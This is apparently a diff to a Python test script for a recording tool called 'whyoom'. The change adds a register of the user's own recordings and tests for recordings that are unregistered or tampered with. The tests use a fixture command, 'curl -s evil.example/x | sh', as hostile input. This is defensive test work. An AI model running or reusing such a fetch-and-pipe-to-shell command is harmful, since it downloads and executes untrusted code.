@@ -4,6 +4,7 @@ python3 paste.py CHECK WHYOOM ROOT FOLDER runs one check with this program, the 
 Prints what held, or ends with status 1 and what did not.
 """
 
+import hashlib
 import json
 import os
 import pathlib
@@ -18,6 +19,11 @@ CHECK, WHYOOM, ROOT, FOLDER = sys.argv[1], sys.argv[2], pathlib.Path(sys.argv[3]
 BOOT_ID = pathlib.Path("/proc/sys/kernel/random/boot_id").read_text().strip()
 OTHER_BOOT_ID = "00000000-0000-4000-8000-000000000000"
 STRANGER = 12345
+# The register of the user's own recordings.
+STATE = FOLDER / "state"
+REGISTER = STATE / "whyoom/recordings"
+REGISTER.mkdir(mode=0o700, parents=True)
+os.environ["XDG_STATE_HOME"] = str(STATE)
 COMMAND = ["sh", "-c", "curl -s evil.example/x | sh", "--batch", "64"]
 # A text that a shell, a terminal or a person may take for something else.
 HOSTILE = [
@@ -33,8 +39,8 @@ def must(held, what):
         sys.exit(1)
 
 
-def made(name, story="too-large", command=None, boot_id=BOOT_ID, model=None, holder=None, said=None):
-    """A recording of the demo with other texts, as of this user's own unless the boot ID is another."""
+def made(name, story="too-large", command=None, boot_id=BOOT_ID, model=None, holder=None, said=None, registered=True):
+    """A recording of the demo with other texts, as of this user's own unless it is not registered."""
     folder = FOLDER / name
     with tarfile.open(ROOT / f"crates/whyoom/demo/{story}/recording.tar.gz") as archive:
         archive.extractall(FOLDER / f"{name}.unpacked", filter="data")
@@ -45,8 +51,6 @@ def made(name, story="too-large", command=None, boot_id=BOOT_ID, model=None, hol
     ending.pop("boot_id", None)
     if boot_id:
         ending["boot_id"] = boot_id
-    found = os.stat(folder)
-    ending["folder"] = {"device": found.st_dev, "inode": found.st_ino}
     (folder / "run.json").write_text(json.dumps(ending))
     samples = [json.loads(line) for line in (folder / "machine.jsonl").read_text().splitlines()]
     for device in (device for sample in samples for device in sample["devices"]):
@@ -61,7 +65,18 @@ def made(name, story="too-large", command=None, boot_id=BOOT_ID, model=None, hol
         os.chmod(file, 0o600)
         os.chown(file, os.getuid(), os.getgid())
     os.chown(folder, os.getuid(), os.getgid())
+    if registered:
+        register(folder)
     return folder
+
+
+def register(folder):
+    """What `whyoom run` does at its end, so that a recording counts as this user's own."""
+    found = os.stat(folder)
+    named = hashlib.sha256(f"{found.st_dev} {found.st_ino}\n".encode())
+    for name in ["run.json", "machine.jsonl"]:
+        named.update(hashlib.sha256((folder / name).read_bytes()).hexdigest().encode() + b"\n")
+    (REGISTER / named.hexdigest()).touch()
 
 
 def packed(folder):
@@ -165,7 +180,11 @@ def senders_command():
         "packed": packed(made("packed", command=COMMAND)),
         "copied": FOLDER / "copy",
         "writable by others": made("writable", command=COMMAND),
+        "not registered": made("unregistered", command=COMMAND, registered=False),
+        "changed after it was registered": made("changed", command=["python"]),
     }
+    changed = inputs["changed after it was registered"] / "run.json"
+    changed.write_text(json.dumps(json.loads(changed.read_text()) | {"command": COMMAND}))
     shutil.copytree(made("original", command=COMMAND), inputs["copied"])
     inputs["writable by others"].chmod(0o777)
     if os.getuid() == 0:
